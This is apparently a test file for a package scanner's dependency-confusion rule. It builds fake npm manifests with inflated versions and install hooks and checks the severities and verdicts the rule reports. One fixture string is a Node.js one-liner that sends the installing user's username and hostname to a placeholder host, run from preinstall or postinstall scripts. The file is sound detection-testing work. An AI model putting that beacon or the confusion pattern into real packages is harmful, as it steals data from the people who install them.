import { describe, expect, test } from 'vitest';
import { manifest, scanFiles } from '../test/helpers/analyze.js';
import { finding } from '../test/helpers/findings.js';

const RULE = 'dependency-confusion';
const beacon = "require('https').get('https://collector.invalid/?u=' + require('os').userInfo().username + '&h=' + require('os').hostname());\n";

describe('dependency-confusion reports', () => {
  test('an internal-looking name at 99.10.9 with a preinstall is high', () => {
    const r = scanFiles({ 'package.json': manifest({ name: 'acme-internal-auth', version: '99.10.9', scripts: { preinstall: 'node index.js' } }), 'index.js': 'module.exports = 1;\n' });
    expect(r.of(RULE)).toEqual([finding('high', ['registry:dependency-confusion'], { message: expect.stringContaining('internal') })]);
  });

  test('any unscoped name at 9999.0.0 with an install script is medium', () => {
    const r = scanFiles({ 'package.json': manifest({ name: 'payments-widget', version: '9999.0.0', scripts: { postinstall: 'node index.js' } }), 'index.js': 'module.exports = 1;\n' });
    expect(r.of(RULE)).toEqual([finding('medium', ['registry:dependency-confusion'])]);
  });

  test('an org-like -sdk name at 1.999.0 that beacons host data at install is malicious', () => {
    const r = scanFiles({ 'package.json': manifest({ name: 'contoso-sdk', version: '1.999.0', scripts: { preinstall: 'node index.js' } }), 'index.js': beacon });
    expect(r.of(RULE)).toEqual([finding('high', ['registry:dependency-confusion'])]);
    expect(r.verdict).toBe('malicious');
  });

  test('the calendar-versioned installer\'s twin at a hand-picked 1.9999.0 is reported (verdict: test/score.test.ts)', () => {
    const r = scanFiles({ 'package.json': manifest({ name: 'edge-runtime-bin', version: '1.9999.0', scripts: { postinstall: 'node install.js' } }), 'install.js': beacon });
    expect(r.of(RULE)).toEqual([finding('medium', ['registry:dependency-confusion'])]);
  });

  test('an internal-looking name at an absurd version without install code is only low', () => {
    const r = scanFiles({ 'package.json': manifest({ name: 'corp-private-utils', version: '99.0.0' }), 'index.js': 'module.exports = 1;\n' });
    expect(r.of(RULE)).toEqual([expect.objectContaining({ severity: 'low', signals: undefined })]);
    expect(r.verdict).toBe('clean');
  });
});

describe('dependency-confusion stays quiet on', () => {
  test.each([
    ['an ordinary version with an install script', { name: 'acme-internal-auth', version: '1.2.3', scripts: { postinstall: 'node index.js' } }],
    ['a huge patch number (date-based versions)', { name: 'caniuse-lite', version: '1.0.30001690', scripts: { postinstall: 'node index.js' } }],
    ['a scoped package', { name: '@acme/internal-auth', version: '99.0.0', scripts: { preinstall: 'node index.js' } }],
    ['an ecosystem -utils name at a normal version', { name: 'react-utils', version: '9.9.9' }],
    // Counted up to, not picked: a calendar version and a release counter, each with an installer.
    ['a calendar version with a binary installer', { name: 'edge-runtime-bin', version: '1.20261117.1', scripts: { postinstall: 'node install.js' } }],
    ['a release counter in the minor', { name: 'cloud-client', version: '2.1692.0', scripts: { postinstall: 'node install.js' } }],
  ])('%s', (_label, pj) => {
    const r = scanFiles({ 'package.json': manifest(pj), 'index.js': 'module.exports = 1;\n' });
    expect(r.of(RULE)).toEqual([]);
  });
});
